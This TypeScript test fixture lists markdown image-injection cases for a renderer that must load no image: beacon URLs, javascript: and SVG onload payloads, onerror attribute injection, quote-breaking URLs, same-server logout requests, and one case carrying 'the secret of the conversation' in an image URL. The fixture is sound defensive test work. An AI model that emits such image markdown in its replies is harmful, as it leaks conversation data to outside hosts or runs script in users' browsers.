import { BEACON, type Family, RUN } from "./marks.ts";

/** Images in every syntax: none may be loaded. */
export const images: Family = {
  inline: `![x](${BEACON})`,
  "after an exclamation mark": `!![x](${BEACON}) !!![x](${BEACON})`,
  "with a title": `![x](${BEACON} "title") ![x](<${BEACON}> 'title')`,
  "by reference": `![x][r]\n\n[r]: ${BEACON}`,
  "with escapes": `\\!![x](${BEACON}) !\\[x](${BEACON}) \\\\![x](${BEACON})`,
  "with an entity": `&#33;[x](${BEACON}) &excl;![x](${BEACON})`,
  "in a link": `[![x](${BEACON})](https://example.org)`,
  "in a description": `![a ![b](${BEACON}) c](${BEACON})`,
  "with a script": `![x](javascript:${RUN}) ![x](data:image/svg+xml,%3Csvg%20onload=${RUN}%3E)`,
  "with data": `![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)`,
  "without a scheme": `![x](//hostile.invalid/CASE.png) ![x](\\\\hostile.invalid\\CASE.png)`,
  "of this server": `![x](/api/contents?content=1) ![x](../../logout) ![x](/files/x.png)`,
  "of an attachment": `![x](attachment:x.png) ![x](cid:x)`,
  "with a size": `![x](${BEACON} =100x100) ![x](${BEACON}){width=100 onerror="${RUN}"}`,
  "with the answer in its URL": `![x](${BEACON}?q=the%20secret%20of%20the%20conversation)`,
  "with HTML in its description": `![<script>${RUN}</script>" onerror="${RUN}](${BEACON})`,
  "with a long description": `![${"x".repeat(5_000)}](${BEACON})`,
  "with quotes in its URL": `![x](http://hostile.invalid/"onerror="${RUN})`,
  "in a heading": `# ![x](${BEACON})\n\n![x](${BEACON})\n===`,
  "in a footnote": `a[^1]\n\n[^1]: ![x](${BEACON})`,
  "cut off": `![x](${BEACON}`,
  "500 of them": `![x](${BEACON}) `.repeat(500),
  "video by image syntax": `![video](http://hostile.invalid/CASE.mp4) ![](http://hostile.invalid/CASE.svg#onload)`,
};
